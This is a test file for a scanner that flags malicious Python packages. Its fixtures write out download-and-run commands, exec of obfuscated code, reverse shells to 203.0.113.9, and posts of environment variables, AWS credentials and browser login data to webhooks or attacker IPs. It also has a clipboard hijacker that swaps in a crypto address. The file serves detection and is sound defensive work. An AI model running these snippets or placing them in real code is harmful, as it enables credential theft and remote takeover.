/**
 * The malicious-package indicator rules one by one, on malicious-style and benign
 * snippets (whole packages are in test/malicious/packages.test.ts).
 */
import { describe, expect, it } from 'vitest';
import { runOn, testRule } from '../helpers/rule-tester.js';
import { confusableReason } from '../../src/rules/malicious/kr608-confusable-identifier.js';
import { riskOf } from '../../src/rules/malicious/verdict.js';

const SETUP = { path: 'pkg/setup.py' };
const INIT = { path: 'pkg/mod/__init__.py', packageName: 'mod' };

describe('malicious-package indicators', () => {
  it('KR601 download-and-execute', () =>
    testRule('KR601', {
      valid: [
        // Download of data, verified, never run.
        'import urllib.request, hashlib\ndef load():\n    data = urllib.request.urlopen(URL).read()\n    assert hashlib.sha256(data).hexdigest() == SHA\n    return data',
        // Download then extract with tar: an honest build step.
        'import subprocess, urllib.request\ndef fetch():\n    urllib.request.urlretrieve(URL, "src.tar.gz")\n    subprocess.check_call(["tar", "xzf", "src.tar.gz"])',
        // A process with no download in the same function.
        'import subprocess, urllib.request\ndef a():\n    urllib.request.urlretrieve(URL, "x.csv")\ndef b():\n    subprocess.run(["ls"])',
      ],
      invalid: [
        { code: 'import os, urllib.request\nurllib.request.urlretrieve("http://203.0.113.5/x", "/tmp/x")\nos.chmod("/tmp/x", 0o755)\nos.system("/tmp/x")', errors: [{ line: 3, column: 1, message: 'A file downloaded at line 2 is made executable at install time.' }], severity: 'critical', options: SETUP },
        { code: 'import requests, subprocess\ndef update():\n    r = requests.get(URL, timeout=5)\n    with open("u.exe", "wb") as f:\n        f.write(r.content)\n    subprocess.Popen(["u.exe"])', lines: [6], severity: 'high' },
        { code: 'from urllib.request import urlopen\nexec(urlopen("https://paste.ee/r/x").read())', lines: [2], severity: 'critical', options: INIT },
        { code: 'import os\nos.system("curl -s http://x.example/i.sh | bash")', lines: [2], options: SETUP },
        { code: 'import subprocess\nsubprocess.call(["powershell", "-c", "iwr http://x/a.exe -OutFile a.exe"])', lines: [2], options: SETUP },
      ],
    }));

  it('KR602 obfuscated-code-execution', () =>
    testRule('KR602', {
      valid: [
        'import base64, json\ndata = json.loads(base64.b64decode(blob))',
        'exec(compile(open(path).read(), path, "exec"))',
        'import codecs\nprint(codecs.decode(s, "rot13"))',
        'import zlib\nraw = zlib.decompress(b)\nwith open("out", "wb") as f:\n    f.write(raw)',
      ],
      invalid: [
        { code: 'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))', errors: [{ line: 2, column: 1, message: 'Decoded or obfuscated data is executed as code (exec) at import time.' }], severity: 'critical', options: INIT },
        { code: 'import zlib, marshal\ncode = marshal.loads(zlib.decompress(B))\ndef run():\n    exec(code)', lines: [4], severity: 'high' },
        { code: 'import codecs\np = codecs.decode("vzcbeg bf", "rot13")\nexec(p)', lines: [3], options: SETUP },
        { code: 'eval(bytes.fromhex("7072696e74283129").decode())', lines: [1] },
        { code: 's = "".join(chr(c) for c in [112, 114])\nexec(s)', lines: [2] },
        { code: 'import builtins\nbuiltins.exec(")1(tnirp"[::-1])', lines: [2] },
        { code: 'import os, base64\nos.system(base64.b64decode(CMD).decode())', lines: [2] },
        { code: 'from cryptography.fernet import Fernet\nexec(Fernet(K).decrypt(T))', lines: [2] },
      ],
    }));

  it('KR603 data-exfiltration', () =>
    testRule('KR603', {
      valid: [
        'import os, requests\nrequests.get("https://api.github.com/user", headers={"Authorization": "Bearer " + os.environ["GITHUB_TOKEN"]}, timeout=5)',
        'import os, subprocess\nsubprocess.run(["make"], env={**os.environ, "CC": "gcc"})',
        'import os, paramiko\nc = paramiko.SSHClient()\nc.connect(h, key_filename=os.path.expanduser("~/.ssh/id_rsa"))',
        'import platform, requests\nrequests.post(URL, json={"os": platform.system()}, timeout=3)',
      ],
      invalid: [
        { code: 'import os, requests\nrequests.post("https://discord.com/api/webhooks/1/x", json={"e": dict(os.environ)})', errors: [{ line: 2, column: 1, message: 'The whole process environment is sent to the network at import time (the file names a Discord webhook: discord.com).' }], severity: 'critical' },
        { code: 'import os, requests\nenv = os.environ.copy()\ndef send():\n    requests.post("https://api.example.org/c", data=env)', lines: [4], severity: 'high' },
        { code: 'import os, requests\np = os.path.expanduser("~/.aws/credentials")\nwith open(p) as f:\n    c = f.read()\nrequests.post("http://185.1.2.3/c", data=c)', lines: [5], severity: 'critical', options: SETUP },
        { code: 'import socket, getpass\nsocket.gethostbyname(getpass.getuser() + ".x.oastify.com")', lines: [2], severity: 'critical', options: SETUP },
        { code: 'import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ndef tag():\n    s.sendto(socket.gethostname().encode(), ADDR)', lines: [4], severity: 'medium' },
        { code: 'import os, requests\ndef _paths():\n    return [os.path.join(B, "Google", "Chrome", "User Data", "Login Data")]\nfor p in _paths():\n    requests.post(U, files={"f": open(p, "rb")})', lines: [5], severity: 'critical', options: INIT },
      ],
    }));

  it('KR604 detached-silent-process', () =>
    testRule('KR604', {
      valid: [
        'import subprocess\nsubprocess.run(["git", "status"], stdout=subprocess.DEVNULL)',
        'import subprocess\nsubprocess.Popen(["worker"], start_new_session=True)',
      ],
      invalid: [
        { code: 'import subprocess, sys\nsubprocess.Popen([sys.executable, "-c", P], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)', errors: [{ line: 2, column: 1, message: 'A process is started with its output discarded and in a new session at install time.' }], severity: 'high', options: SETUP },
        { code: 'import os\nos.system("nohup ./x > /dev/null 2>&1 &")', lines: [2], severity: 'high', options: INIT },
        { code: 'import os\ndef d():\n    if os.fork() == 0:\n        os.setsid()\nd()', lines: [3], severity: 'high', options: INIT },
        { code: 'import os\ndef d():\n    if os.fork() == 0:\n        os.setsid()', lines: [3], severity: 'low', options: INIT },
        { code: 'import subprocess\nsubprocess.Popen(["pythonw", "svc.pyw"])', lines: [2], options: SETUP },
      ],
    }));

  it('KR605 reverse-shell', () =>
    testRule('KR605', {
      valid: [
        'import socket\ndef up(h, p):\n    with socket.socket() as s:\n        return s.connect_ex((h, p)) == 0',
        'import socket, subprocess\ns = socket.create_connection(A)\nsubprocess.run(["uptime"])',
      ],
      invalid: [
        { code: 'import os, pty, socket\ns = socket.socket()\ns.connect(("203.0.113.9", 4444))\nos.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\npty.spawn("/bin/sh")', errors: [{ line: 6, column: 1, message: 'Reverse shell: a shell whose standard streams were redirected to a socket is run at import time.' }], severity: 'critical' },
        { code: 'import subprocess\nsubprocess.call("bash -i >& /dev/tcp/203.0.113.9/9001 0>&1", shell=True)', lines: [2] },
        { code: 'import socket, subprocess\nc = socket.create_connection(A)\nwhile True:\n    d = c.recv(1024)\n    cmd = d.decode()\n    c.sendall(subprocess.check_output(cmd, shell=True))', lines: [6] },
        { code: 'import socket, subprocess\ns = socket.socket()\ns.connect(A)\nsubprocess.Popen(["/bin/sh", "-i"], stdin=s.fileno(), stdout=s.fileno())', lines: [4] },
      ],
    }));

  it('KR606 clipboard-hijack', () =>
    testRule('KR606', {
      valid: ['import pyperclip\ndef copy(t):\n    pyperclip.copy(t)', 'import pyperclip\ndef paste():\n    return pyperclip.paste()'],
      invalid: [
        { code: 'import pyperclip\nA = "0x52908400098527886E0F7030069857D2E4169EE7"\ndef w():\n    if pyperclip.paste().startswith("0x"):\n        pyperclip.copy(A)', errors: [{ line: 5, column: 9, message: 'The clipboard is read and rewritten in a file that holds a cryptocurrency address or address pattern when called.' }], severity: 'high' },
        { code: 'import pyperclip\ndef w():\n    t = pyperclip.paste()\n    pyperclip.copy(t.strip())', lines: [4], severity: 'medium' },
        { code: 'import pyperclip\nstolen = pyperclip.paste()', lines: [2], severity: 'medium', options: INIT },
      ],
    }));

  it('KR607 load-time-activity', () =>
    testRule('KR607', {
      valid: [
        { code: 'import requests\ndef get():\n    return requests.get(U, timeout=5)', options: INIT },
        // A script's top level runs when the user runs it, not at import.
        { code: 'import requests\nrequests.get(U, timeout=5)', options: { path: 'tool.py' } },
      ],
      invalid: [
        { code: 'import requests\nrequests.get(U, timeout=5)\nrequests.get(V, timeout=5)', errors: [{ line: 2, column: 1, message: 'Network access at install time (requests.get).' }], severity: 'medium', options: SETUP },
        { code: 'import subprocess\nsubprocess.run(["pkg-config", "--cflags", "x"])', lines: [2], severity: 'low', options: SETUP },
        { code: 'import urllib.request\nurllib.request.urlopen(U)', lines: [2], options: INIT },
        // PEP 517 hook of an in-tree backend.
        { code: 'import requests\ndef build_wheel(d, c=None, m=None):\n    requests.get(U, timeout=5)', lines: [3], options: { path: '_build/backend.py' } },
      ],
    }));

  it('KR608 confusable-identifier', () => {
    testRule('KR608', {
      valid: ['def send(data):\n    return data', 'def отправить(данные):\n    return данные', 'π = 3.14159'],
      invalid: [
        { code: 'def \u0435x\u0435c(c):\n    return c\n\u0435x\u0435c(1)', errors: [{ line: 1, column: 1, message: 'The identifier \'\\u0435x\\u0435c\' mixes Latin letters with look-alike letters of another script: it reads as a different name than the interpreter sees.' }], severity: 'high' },
        { code: 'r\u0435quests = 1', lines: [1] },
      ],
    });
    expect(confusableReason('\u0435\u0445\u0435\u0441')).toMatch(/entirely/); // Cyrillic "ехес"
    expect(confusableReason('ｅｘｅｃ')).toBeUndefined(); // NFKC-changing: another rule's
  });

  it('the verdict combines indicators into a risk level', () => {
    expect(riskOf([])).toBe('none');
    expect(riskOf([{ ruleId: 'KR607', severity: 'low' }])).toBe('low');
    expect(riskOf([{ ruleId: 'KR607', severity: 'medium' }, { ruleId: 'KR606', severity: 'medium' }])).toBe('medium');
    expect(riskOf([{ ruleId: 'KR604', severity: 'high' }])).toBe('high');
    expect(riskOf([{ ruleId: 'KR604', severity: 'high' }, { ruleId: 'KR609', severity: 'high' }])).toBe('critical');
    expect(riskOf([{ ruleId: 'KR604', severity: 'high' }, { ruleId: 'KR604', severity: 'high' }])).toBe('high');
  });

  it('every finding of the group carries its phase and a CWE', () => {
    const f = runOn('import base64\nexec(base64.b64decode(X))', ['KR602'], INIT);
    expect(f[0]!.properties).toMatchObject({ indicator: 'obfuscated-exec', phase: 'import' });
    expect(f[0]!.cwe).toEqual([506]);
  });
});
